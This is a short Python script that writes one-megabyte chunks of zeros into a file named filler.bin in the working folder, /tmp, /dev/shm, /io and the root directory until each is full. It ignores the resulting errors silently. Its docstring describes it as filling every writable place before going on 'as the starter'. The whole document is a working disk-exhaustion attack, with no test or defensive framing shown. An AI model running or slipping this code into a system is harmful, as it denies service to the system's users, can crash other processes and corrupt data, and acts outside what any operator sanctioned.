"""Writes until every writable place is full, then goes on as the starter."""
import os

CHUNK = b"\0" * (1024 * 1024)
for folder in (".", "/tmp", "/dev/shm", "/io", "/"):
    try:
        with open(os.path.join(folder, "filler.bin"), "wb") as fh:
            while True:
                fh.write(CHUNK)
    except OSError:
        pass
